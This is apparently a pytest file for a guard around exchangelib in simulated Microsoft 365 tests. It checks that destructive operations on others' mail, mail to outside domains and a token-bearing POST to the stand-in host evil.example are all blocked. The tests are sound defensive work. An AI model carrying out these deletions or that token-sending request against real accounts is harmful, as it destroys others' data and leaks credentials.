"""exchangelib in a live test: others' items and folders are left alone, and mail stays inside."""

from collections.abc import Iterator
from typing import Any

import exchangelib
import pytest

from pytest_m365 import clients
from pytest_m365.live.guard import Guard, NotAllowed
from pytest_m365.live.guarded_ews import guard_account
from tests.plugin.live.test_guarded import Folders
from tests.plugin.live.world import TAG, Twin, message


@pytest.fixture
def folders() -> Folders:
    return Folders()


@pytest.fixture
def account(twin: Twin, folders: Folders) -> Iterator[Any]:
    for subject, tag in (("Theirs", None), ("Ours", TAG)):
        twin.mailbox.deliver(message(subject, tag=tag))
    guard = Guard(frozenset(), frozenset(), frozenset({"localhost"}))
    with clients.ews(twin.target.ews_url, twin.user, twin.token()) as account:
        guard_account(account, TAG, guard, {"contoso.onmicrosoft.com"}, folders)
        yield account


def subjects(twin: Twin, folder: str = "inbox") -> list[str]:
    """Return what is in a folder."""
    return sorted(each.subject for each in twin.mailbox.messages(folder))


@pytest.mark.parametrize(
    "change",
    [
        lambda account: account.inbox.all().delete(),
        lambda account: account.inbox.filter(subject="Theirs").delete(),
        lambda account: account.inbox.wipe(),
        lambda account: account.inbox.empty(),
        lambda account: account.inbox.delete(),
        lambda account: account.inbox.get(subject="Theirs").move_to_trash(),
        lambda account: account.inbox.get(subject="Theirs").move(account.trash),
        lambda account: account.inbox.get(subject="Theirs").copy(account.trash),
        lambda account: read(account.inbox.get(subject="Theirs")),
        lambda account: account.inbox.get(subject="Theirs").reply(
            "Re: Theirs", "Hello", [TAG.address("a@contoso.onmicrosoft.com")]
        ),
        lambda account: account.upload([(account.inbox, "AAAA")]),
        lambda account: setattr(
            account, "oof_settings", exchangelib.OofSettings(state="Disabled", internal_reply="", external_reply="")
        ),
        lambda account: account.inbox.get(subject="Theirs").attach(
            exchangelib.FileAttachment(name="a.txt", content=b"a")
        ),
    ],
)
def test_others_are_left_alone(account: Any, twin: Twin, change: Any) -> None:
    with pytest.raises(NotAllowed):
        change(account)
    assert subjects(twin) == ["Ours", "Theirs"]
    assert not any(each.flags.seen for each in twin.mailbox.messages())
    # The session lives.
    assert account.inbox.filter(subject="Theirs").count() == 1


def read(item: Any) -> None:
    """Mark an item as read."""
    item.is_read = True
    item.save(update_fields=["is_read"])


def test_ones_own_is_ones_own(account: Any, twin: Twin) -> None:
    ours = account.inbox.get(subject="Ours")
    read(ours)
    assert [each.flags.seen for each in twin.mailbox.messages() if each.subject == "Ours"] == [True]
    ours.move(account.trash)
    assert subjects(twin, "deleteditems") == ["Ours"]
    account.trash.filter(subject="Ours").delete()
    assert subjects(twin, "deleteditems") == []
    assert subjects(twin) == ["Theirs"]


@pytest.mark.parametrize("field", ["to_recipients", "cc_recipients", "bcc_recipients"])
def test_mail_stays_inside(account: Any, twin: Twin, field: str) -> None:
    recipients = {"to_recipients": [TAG.address(twin.user)], field: ["boss@fabrikam.com"]}
    outside = exchangelib.Message(account=account, folder=account.sent, subject="Out", body="", **recipients)
    with pytest.raises(NotAllowed, match=r"no mail is sent to boss@fabrikam\.com"):
        outside.send_and_save()
    with pytest.raises(NotAllowed, match="no mail is sent to"):
        exchangelib.Message(account=account, folder=account.drafts, subject="Out", body="", **recipients).save()
    assert twin.tenant.outbound == []
    assert subjects(twin, "drafts") == []


def test_mail_to_the_test(account: Any, twin: Twin) -> None:
    mail = exchangelib.Message(
        account=account, folder=account.sent, subject="In", body="", to_recipients=[TAG.address(twin.user)]
    )
    mail.send_and_save()
    assert twin.mailbox.wait_for("In").recipients == [TAG.address(twin.user)]


@pytest.mark.parametrize("field", ["To", "Cc", "Bcc"])
def test_mime_outside(account: Any, field: str) -> None:
    mime = message("Out", to=TAG.address("a@contoso.onmicrosoft.com"), more=f"{field}: a@fabrikam.com")
    whole = exchangelib.Message(account=account, folder=account.drafts, mime_content=mime)
    with pytest.raises(NotAllowed, match=r"no mail is sent to a@fabrikam\.com"):
        whole.save()


def test_a_folder_of_ones_own(account: Any, twin: Twin, folders: Folders) -> None:
    made = exchangelib.folders.Folder(parent=account.inbox, name="Mine")
    made.save()
    assert folders.noted == ["Inbox/Mine"]
    below = exchangelib.folders.Folder(parent=made, name="Below")
    below.save()
    assert folders.noted == ["Inbox/Mine", "Inbox/Mine/Below"]
    below.empty()
    below.delete()
    made.delete()
    with pytest.raises(NotAllowed, match=r"m365_mailbox\.add_folder"):
        exchangelib.folders.Folder(parent=account.sent, name="Theirs").save()


def test_no_token_goes_to_another_host(account: Any) -> None:
    session = account.protocol.get_session()
    with pytest.raises(NotAllowed, match=r"no token is sent to evil\.example"):
        session.post("https://evil.example/EWS/Exchange.asmx", data=b"<x/>")
    account.protocol.release_session(session)
